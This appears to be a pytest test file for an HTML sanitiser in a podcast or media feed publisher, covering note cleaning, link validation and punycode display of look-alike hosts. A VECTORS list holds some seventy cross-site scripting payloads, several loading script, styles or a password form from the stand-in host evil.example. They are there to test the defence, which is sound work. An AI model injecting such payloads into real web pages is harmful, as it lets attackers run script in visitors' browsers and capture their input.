"""Strangers' HTML."""

import time
from dataclasses import replace

import pytest
from selectolax.lexbor import LexborHTMLParser

from mediafeed.publish.html import OUTPUT, harmless, notes_fragment, paragraphs
from mediafeed.publish.safe_links import host_shown, is_web_address, safe_link
from mediafeed.publish.site import plan
from tests.publish.pages_read import harm_in, tags_in
from tests.publish.shelf import Shelf, episode

VECTORS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=`javascript:alert(1)`>",
    "<img/src/onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?php <img src=x onerror=alert(1)> ?>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \t\njavascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java\0script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="&#x6A&#x61vascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&NewLine;:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:x">x</a>',
    '<a href="//evil.example/">x</a>',
    '<a href="/\\evil.example/">x</a>',
    '<a href="\\\\evil.example/">x</a>',
    '<a href="https://user:pass@evil.example/">x</a>',
    '<a href="https://good.example\u202e/">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.example/x">x</a>',
    '<a href="mailto:a@b.example?bcc=c@d.example">x</a>',
    '<a href="https://a.example/" onclick="alert(1)" style="position:fixed" target=_top ping="//e.example">x</a>',
    '<a id=location name=cookie href="https://a.example/">x</a>',
    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1)>",
    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'; body{background:url(//evil.example/)}</style>",
    '<p style="background:url(//evil.example/pixel)">x</p>',
    '<div style="width:expression(alert(1))">x</div>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><style><img title="</style><img src=x onerror=alert(1)>"></style></svg>',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=alert(1)&gt;">',
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><img title=\"</title><img src=x onerror=alert(1)>\">",
    "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<template><script>alert(1)</script></template>",
    "<plaintext><script>alert(1)</script>",
    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
    "<table background=//evil.example/x><td background=javascript:alert(1)>x</table>",
    "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details><marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)><frameset onload=alert(1)>",
    "<p/onmouseover=alert(1)>x",
    "<b onclick\x0b=alert(1)>x</b>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "\ufeff<script>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<a href='https://a.example/\"onmouseover=alert(1)'>x</a>",
    "<img src='https://tracker.example/pixel.gif' width=1 height=1>",
]  # fmt: skip


@pytest.mark.parametrize("vector", VECTORS)
def test_nothing_in_notes_runs_loads_or_styles(vector: str):
    made = f"<!doctype html><main>{harmless(f'before {vector} after')}</main>"

    assert list(harm_in(made)) == []
    assert not tags_in(made) & {"form", "input", "button", "textarea", "select", "link", "audio", "title"}


def test_ids_and_names_are_dropped_so_that_nothing_shadows_the_page():
    assert LexborHTMLParser(harmless("<p id=main name=forms>x</p>")).css("p")[0].attributes == {}


def test_words_lists_tables_and_links_stay():
    made = harmless(
        '<ul><li>a</li></ul><table><tr><td>b</td></tr></table><a href="https://a.example/?b=1&amp;c=2">d</a>'
    )

    assert {"ul", "li", "table", "td", "a"} <= tags_in(made)
    assert LexborHTMLParser(made).css("a")[0].attributes == {
        "href": "https://a.example/?b=1&c=2",
        "rel": "nofollow noopener ugc",
    }


def test_headings_stand_below_the_pages_own():
    assert harmless("<h1>A</h1><h2>B</h2><h4>C</h4>") == "<h3>A</h3><h3>B</h3><h4>C</h4>"


def test_text_without_markup_keeps_its_lines():
    assert harmless("One\n\nTwo > one\n & three") == "<p>One</p>\n<p>Two &gt; one<br>\n &amp; three</p>"


def test_text_with_characters_by_name_keeps_its_lines_too():
    made = harmless("Our Q&A special.\n\nWith &eacute; &lt;b&gt; &amp; more:\n00:00 Intro")

    assert made == "<p>Our Q&amp;A special.</p>\n<p>With é &lt;b&gt; &amp; more:<br>\n00:00 Intro</p>"


def test_text_that_has_links_alone_keeps_its_lines():
    made = harmless("With <b>Ana</b>.\r\n\r\n\r\n00:00 Intro\n01:30 <i>Tide</i>\n")

    assert made == "<p>With <b>Ana</b>.</p>\n<p>00:00 Intro<br>\n01:30 <i>Tide</i></p>"
    assert harmless("<b>One\n\nTwo</b>") == "<p><b>One<br>\n<br>\nTwo</b></p>"


@pytest.mark.parametrize("notes", ["<p>One\ntwo</p>\n\nthree", "One<br>two\n\nthree", "<ul><li>One\ntwo</li></ul>"])
def test_html_that_breaks_its_lines_itself_gets_no_more(notes: str):
    assert harmless(notes) == notes


def test_a_link_with_a_space_works_and_one_for_mail_writes_no_letter():
    spaced, mail = (
        harmless('<a href=" https://a.example/one two">x</a>'),
        harmless('<a href="mailto:a@b?bcc=c@d">x</a>'),
    )

    assert LexborHTMLParser(spaced).css("a")[0].attributes["href"] == "https://a.example/one%20two"
    assert LexborHTMLParser(mail).css("a")[0].attributes["href"] == "mailto:a@b"


@pytest.mark.parametrize("notes", ["<p></p>", "<p>&nbsp;</p><br>", "<img src=x>", " ", "&#8203;<hr>\ufeff"])
def test_notes_of_which_nothing_can_be_read_are_none(notes: str):
    assert notes_fragment(replace(episode(1), notes=notes, summary="")) == b""
    assert notes_fragment(replace(episode(1), notes=notes, summary="Told")) == b"<p>Told</p>"


def test_template_signs_are_words():
    assert harmless("{{ 7*7 }} {% raw %}") == "<p>{{ 7*7 }} {% raw %}</p>"


@pytest.mark.parametrize(
    "piece", ["<div>", "<b><i><u><a>", "<a><b><i><nobr>", "<li><ul>", "<table><tr>", "<", "&", "<p "]
)
def test_a_megabyte_of_nesting_costs_little_and_stays_small(piece: str):
    start = time.process_time()
    made = harmless(piece * (1_000_000 // len(piece)))

    assert len(made) <= 8 * OUTPUT
    assert time.process_time() - start < 5


def test_cut_notes_do_not_end_inside_a_tag():
    made = harmless("<p>" + "x" * 65_520 + '<a href="https://a.example/' + "y" * 100 + '">z</a>')

    assert "<a" not in made
    assert "https" not in made


def test_paragraphs_of_nothing_are_nothing():
    assert paragraphs(" \n\n ") == ""


@pytest.mark.parametrize(
    "url",
    [
        "javascript:alert(1)",
        "https:/a.example",
        "https://",
        "https:///x",
        "https://u@a.example/",
        "https://a.example:99999/",
        "https://a.example:0/",
        'https://a.example/"x',
        "https://a.example\\@b.example/",
        "https://a.example/\u202e",
        "https://[::1/",
        "ftp://a.example/",
        "a.example",
        "",
    ],
)
def test_what_is_no_web_address_is_not_linked(url: str):
    assert not is_web_address(url)
    assert safe_link(url) is None


def test_a_host_of_look_alike_letters_is_shown_in_punycode():
    assert host_shown("https://ruѕi.org/x").startswith("xn--")
    assert host_shown("https://" + "a" * 80 + "é.example/") == ""


def test_an_episodes_notes_are_made_harmless_once_for_each_change_and_not_for_each_page(monkeypatch):
    held = Shelf([episode(1), episode(2)])
    for form in ("notes", "row", "json"):
        list(held.fragments(["tides1", "tides2"], form))
    monkeypatch.setattr("mediafeed.publish.html.nh3.clean", None)  # whoever calls it fails

    made = {one.path: one for one in plan(held, held.site, held.views)}

    assert b"<b>Olumide Vance</b>" in made["episodes/tides/how-ports-change-1/index.html"].render()


def test_what_stands_in_boxes_of_its_own_is_not_run_together():
    assert harmless('<div class="a">One</div><div>Two</div>') == "<div>One</div><div>Two</div>"
